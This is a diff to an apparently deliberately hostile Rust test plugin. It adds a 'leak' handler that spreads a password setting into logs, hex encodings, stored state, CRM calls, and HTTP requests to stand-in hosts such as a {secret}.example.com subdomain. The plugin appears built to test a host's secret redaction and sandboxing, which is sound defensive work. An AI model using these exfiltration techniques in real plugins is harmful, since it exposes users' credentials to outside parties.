@@ -105,6 +105,7 @@ impl Plugin for Sinner {
                 let sent = host.http().post_json(event.field("url").unwrap_or_default(), &settings)?;
                 host.info(sent.text());
             }
+            "leak" => return leak(settings.get("password").and_then(Value::as_str).unwrap_or_default(), host),
             "outside" => host.info(outside()),
             "log-loop" => loop {
                 host.info("z".repeat(number(&event, "bytes")));
@@ -142,6 +143,23 @@ impl Plugin for Sinner {
 
 fn number(event: &Event, field: &str) -> usize {
     event.field(field).and_then(|text| text.parse().ok()).unwrap_or_default()
+}
+
+/// Puts a secret wherever something is recorded.
+fn leak(secret: &str, host: &Host) -> Result<Reply> {
+    let coded: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
+    host.info(format!("{secret} {coded}"));
+    // A line is cut after 8 KiB: half a secret must not be left of it.
+    host.info(format!("{}{secret}", "x".repeat((8 << 10) - secret.len() / 2)));
+    host.info(format!("{:?}", host.state().set("kept", &secret)));
+    host.info(format!("{:?}", host.state().set(secret, &1)));
+    for (method, action) in [("task", "add"), ("client", "list"), (secret, "list"), ("client", secret)] {
+        host.info(format!("{:?}", host.crm().call(method, action, &json!({ "title": secret, secret: secret }))));
+    }
+    for url in [format!("https://{secret}.example.com/{secret}?q={secret}"), format!("http://127.0.0.1:9/{secret}")] {
+        host.info(format!("{:?}", host.http().send(&Request::new("GET", &url).header("x-key", secret).body(secret))));
+    }
+    Reply::reject(format!("because of {secret} and {coded}"))
 }
 
 fn spin() {
